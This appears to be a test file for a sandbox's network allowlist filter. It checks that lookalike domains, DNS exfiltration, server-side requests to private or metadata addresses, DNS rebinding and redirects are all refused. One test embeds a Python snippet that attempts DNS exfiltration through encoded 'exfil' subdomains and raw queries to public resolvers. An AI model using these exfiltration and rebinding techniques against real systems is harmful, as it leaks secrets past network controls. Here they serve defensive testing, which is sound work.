// What a name may lead to, and what may be learned by asking for one.
import assert from "node:assert/strict";
import { it } from "node:test";
import { inward } from "../../support/network/inward.ts";
import { eachAccount, proxy } from "./lab.ts";

eachAccount("names", (lab) => {
  const get = (host: string, options = "") =>
    lab.sh(`curl -sS -m 10 ${options} http://${host}:${lab.world.httpPort}/`);

  it("allowed names are reached by proxy, by SOCKS and without knowing of either", async () => {
    for (const options of ["", `-x ${proxy}`, "-x socks5h://127.0.0.1:14128", "--noproxy '*'"]) {
      assert.match(await get("allowed.test", options), /^reached\n/, options);
      assert.match(await get("a.below.test", options), /^reached\n/, options);
    }
    const tls = `https://allowed.test:${lab.world.tlsPort}/`;
    for (const options of ["", "--noproxy '*'", "-x socks5h://127.0.0.1:14128"])
      assert.match(
        await lab.sh(`curl -sS -m 10 --cacert /tmp/ca.pem ${options} ${tls}`),
        /^reached\n/,
        options,
      );
  });

  it("lookalikes, the apex of a `*.` rule and everything else are refused, and no question about them leaves", async () => {
    const before = lab.world.requests.length;
    const denied = [
      "denied.test",
      "below.test",
      "allowed.test.evil.test",
      "xallowed.test",
      "allowed.tes",
      "sub.allowed.test",
      "xn--llowed-yna.test",
    ];
    for (const host of denied) {
      assert.match(await get(host), /403|refused|exit 56|exit 22|caisson/, host);
      assert.doesNotMatch(await get(host, "--noproxy '*'"), /^reached/, host);
    }
    assert.equal(lab.world.requests.length, before);
    for (const host of denied)
      assert.ok(!lab.world.names.questions.some((question) => question.endsWith(` ${host}`)), host);
  });

  it("no name that a program makes up reaches any name server", async () => {
    const asked = lab.world.names.questions.length;
    await lab.python(`
for i in range(50):
    try: socket.getaddrinfo("c2VjcmV0-%d.exfil.denied.test" % i, 80)
    except OSError: pass
for server in ("127.0.0.1", "8.8.8.8", "${lab.world.names.address.split(":")[0]}"):
    q = b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x06secret\\x06denied\\x04test\\x00\\x00\\x10\\x00\\x01"
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(1)
    try: u.sendto(q, (server, 53)); u.recv(512)
    except OSError: pass
    try: u.sendto(q, (server, ${lab.world.names.address.split(":")[1]})); u.recv(512)
    except OSError: pass
`);
    assert.deepEqual(lab.world.names.questions.slice(asked), []);
  });

  it("every notation of a name is judged as the name", async () => {
    for (const host of ["ALLOWED.test", "allowed.test."])
      assert.match(await get(host, `-x ${proxy}`), /^reached/, host);
    for (const host of ["DENIED.test", "denied.test.", "allowed.test@denied.test"])
      assert.doesNotMatch(await get(host, `-x ${proxy}`), /^reached/, host);
  });

  it("an allowed name that leads to a private, metadata or loopback address is refused", async () => {
    for (const address of inward) {
      lab.world.names.set("moved.below.test", [address], 0);
      const target = `http://moved.below.test:${lab.world.canary.port}/`;
      assert.match(await lab.sh(`curl -sS -m 10 ${target}`), /leads to|caisson/, address);
    }
    assert.equal(lab.world.canary.connections, 0);
    const kinds = ["host", "loopback", "metadata", "private", "unspecified"].map((kind) => `${kind} address`);
    for (const rule of await lab.refusals("moved.below.test")) assert.ok(kinds.includes(rule), rule);
  });

  it("a name that changes its address between two questions is dialled at the judged one only", async () => {
    // The first answer is fine, every later one is not, and nothing is kept.
    const answers = ["127.0.1.1", "127.0.0.1"];
    for (let i = 0; i < 6; i++) {
      lab.world.names.set("flip.below.test", [answers[i % 2]!], 0);
      await lab.sh(`curl -sS -m 10 http://flip.below.test:${lab.world.canary.port}/`);
    }
    lab.world.names.set("both.below.test", ["127.0.0.1", "127.0.1.1"], 0);
    await lab.sh(`curl -sS -m 10 http://both.below.test:${lab.world.canary.port}/`);
    assert.match(await get("both.below.test"), /^reached/);
    assert.equal(lab.world.canary.connections, 0);
  });

  it("a redirect is judged like any other request", async () => {
    const to = encodeURIComponent(`http://denied.test:${lab.world.httpPort}/secret`);
    const inward = encodeURIComponent(`http://127.0.0.1:${lab.world.canary.port}/`);
    const before = lab.world.requests.length;
    for (const target of [to, inward])
      await lab.sh(
        `curl -sSL -m 10 -x ${proxy} 'http://allowed.test:${lab.world.httpPort}/redirect?${target}'`,
      );
    assert.deepEqual(
      lab.world.requests.slice(before).map((request) => request.split("?")[0]),
      ["GET /redirect", "GET /redirect"],
    );
    assert.equal(lab.world.canary.connections, 0);
  });

  it("an empty allowlist denies everything, and so does off", async () => {
    for (const network of [{ mode: "allow" }, { mode: "off", allow: ["allowed.test"] }, {}] as const) {
      const box = await lab.make(network);
      assert.doesNotMatch(
        await lab.sh(`curl -sS -m 10 http://allowed.test:${lab.world.httpPort}/`, box),
        /^reached/,
      );
      assert.doesNotMatch(
        await lab.sh(`curl -sS -m 10 --noproxy '*' http://allowed.test:${lab.world.httpPort}/`, box),
        /^reached/,
      );
      await box.delete();
    }
  });
});
